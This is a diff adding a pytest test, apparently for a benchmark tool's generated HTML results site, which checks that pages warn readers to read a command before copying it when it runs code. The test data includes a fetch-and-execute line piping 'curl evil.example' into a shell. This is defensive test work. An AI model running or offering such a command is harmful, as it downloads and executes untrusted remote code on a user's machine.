@@ -203,6 +203,16 @@ def test_a_command_of_another_program_is_not_offered_to_be_copied(tmp_path: Path
     assert "evil.example" not in text
 
 
+@pytest.mark.parametrize("cell", [("--cell", "mine=sh -c 'curl evil.example | sh'"), ()])
+def test_a_command_that_runs_code_is_warned_of_wherever_it_is_offered(tmp_path: Path, cell: tuple[str, ...]):
+    store(tmp_path / "results", {"ort": times(1)}, plan={"command": ["irbench", "run", "tiny", *cell]})
+    site(tmp_path)
+    for page in (tmp_path / "site").glob("*.html"):
+        text = page.read_text()
+        if "irbench run tiny" in text:
+            assert any(said in text for said in ("read it first", "read the command before")) == bool(cell), page
+
+
 def test_of_very_many_runs_and_rows_the_newest_are_shown_and_a_line_says_so(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ):
